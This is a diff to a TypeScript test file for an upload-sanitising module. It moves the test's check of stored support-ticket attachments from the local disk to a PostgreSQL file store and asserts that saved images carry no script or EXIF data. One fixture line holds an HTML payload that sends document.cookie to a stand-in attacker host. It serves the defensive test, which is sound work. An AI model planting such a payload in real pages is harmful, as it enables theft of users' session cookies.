@@ -1,10 +1,11 @@
-import { mkdtemp, readdir, readFile, rm } from 'node:fs/promises';
+import { mkdtemp, rm } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import path from 'node:path';
 import sharp from 'sharp';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { signIn, testBrowser, type TestBrowser, verifiedCustomer } from '../../test/account-helpers';
 import { startTestApp, type TestApp } from '../../test/test-app';
+import { PostgresFileStore } from '../files/postgres-file-store';
 import { judgeUpload } from './judge-upload';
 
 const HTML = Buffer.from('<!doctype html><html><body><script>fetch("https://evil.example/?c="+document.cookie)</script></body></html>');
@@ -58,7 +59,8 @@ describe('ticket attachments are stored as sharp wrote them', () => {
     const response = await customer.fetch('/api/support/tickets', { method: 'POST', body: form });
     return { status: response.status, body: await response.json() };
   };
-  const stored = async () => readdir(path.join(dataDir, 'uploads', 'tickets')).catch(() => [] as string[]);
+  /** What the file store holds for tickets (PostgreSQL by default, shared by every process). */
+  const stored = async () => new PostgresFileStore(app.orm).list('tickets/');
 
   beforeAll(async () => {
     dataDir = await mkdtemp(path.join(tmpdir(), 'aurum-judge-'));
@@ -87,7 +89,8 @@ describe('ticket attachments are stored as sharp wrote them', () => {
     const result = await submit('dial.jpg', sent);
     expect(result.status).toBe(201);
     const [name] = (await stored()).filter((file) => !before.includes(file));
-    const bytes = await readFile(path.join(dataDir, 'uploads', 'tickets', name));
+    expect(name).toMatch(/^tickets\/[0-9a-f-]{36}\.jpg$/);
+    const bytes = (await new PostgresFileStore(app.orm).get(name))!.bytes;
     expect(bytes.equals(sent)).toBe(false);
     expect(bytes.includes(Buffer.from('<script>'))).toBe(false);
     expect((await sharp(bytes).metadata()).exif).toBeUndefined();
